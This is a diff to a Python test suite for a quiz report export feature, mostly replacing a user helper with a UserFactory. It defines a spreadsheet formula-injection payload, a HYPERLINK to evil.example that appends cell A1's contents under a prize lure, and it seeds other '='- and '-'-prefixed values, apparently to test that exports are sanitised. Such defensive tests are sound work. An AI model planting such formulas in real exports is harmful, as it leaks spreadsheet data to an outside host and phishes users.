@@ -9,10 +9,11 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from tests.helpers import csrf_token, make_group
+from tests.factories import UserFactory
+from tests.helpers import csrf_token, make_group, sign_in
 from tests.records.builders import finished
 from tests.records.builders import row as read_row
-from tests.reports.builders import add_rows, at, make_user, play, play_as_staff, sign_in, update
+from tests.reports.builders import add_rows, at, play, play_as_staff, update
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领奖")'
 
@@ -52,7 +53,7 @@ def school(app, client):
              Pledge(participant_id=members[1][1], attempt_id=plain.attempt_id, group_id=made["group_id"],
                     member_key=members[1][0], signer="", signature_svg_path="M1 1 L5 5",
                     signed_at=at("2024-03-01 16:05")))
-    teacher = make_user(app, "teacher")
+    teacher = UserFactory(role="teacher")
     update(app, "Group", made["group_id"], teacher_id=teacher.id, pledges=2)
     sign_in(client, teacher)
     return {**made, "evil": evil, "plain": plain}
@@ -114,7 +115,7 @@ def test_a_drawn_signature_alone_is_listed_under_the_signers_nickname(app, clien
     assert signed.status_code == 303
     pledge = read_row(app, Pledge, Pledge.attempt_id == attempt_id)
     assert pledge.signer == "" and pledge.signature_svg_path  # drawn only: no typed name stored
-    teacher = make_user(app, "teacher")
+    teacher = UserFactory(role="teacher")
     update(app, "Group", made["group_id"], teacher_id=teacher.id)
     staff = app.test_client()
     sign_in(staff, teacher)
@@ -149,7 +150,7 @@ def test_roster_export_has_name_columns_and_everyone_on_the_roster(app, client):
              RosterEntry(group_id=made["group_id"], name="李强", staff_no="H002", department="放射科"),
              RosterEntry(group_id=made["group_id"], name="赵敏", staff_no="H003", department="-急诊"))
     play_as_staff(app, client, made["join_code"], made["quiz_id"], "H001", "=王丽", right=16)
-    organiser = make_user(app, "organiser", made["org_id"])
+    organiser = UserFactory(role="organiser", organisation_id=made["org_id"])
     sign_in(client, organiser)
     rows = _csv(client.get(f"/reports/groups/{made['group_id']}/export.csv"))
     assert rows[0][:3] == ["姓名", "工号", "科室"]
@@ -167,7 +168,7 @@ def test_finished_time_is_beijing_time(app, client):
     add_rows(app, BoardEntry(group_id=made["group_id"], scope=0, member_key="p:1", nickname="张奶奶", counted=True,
                              score=6, total=8, permille=750, seconds=300, finished_at=at("2024-05-01 23:30")))
     update(app, "GroupStats", (made["group_id"], 0), participants=1, permille_sum=750)
-    admin = make_user(app, "admin")
+    admin = UserFactory(role="admin")
     sign_in(client, admin)
     rows = _csv(client.get(f"/reports/groups/{made['group_id']}/export.csv"))
     # No attempt behind this row: the pass mark is the round's quiz (elder-listen, 60 %).
@@ -182,7 +183,7 @@ def test_organisation_export_one_row_per_group_and_totals(app, client):
     update(app, "GroupStats", (b["group_id"], 0), participants=4, permille_sum=2400, last_counted_at=at("2024-03-01 03:00"))
     update(app, "Group", a["group_id"], pledges=5, families=3)
     update(app, "Group", b["group_id"], pledges=1, families=0)
-    organiser = make_user(app, "organiser", a["org_id"])
+    organiser = UserFactory(role="organiser", organisation_id=a["org_id"])
     sign_in(client, organiser)
     rows = _csv(client.get(f"/reports/organisations/{a['org_id']}/export.csv"))
     assert rows[0] == ["名次", "班级", "应到人数", "参与人数", "参与率（%）", "平均分（%）", "完成时间（北京时间）",
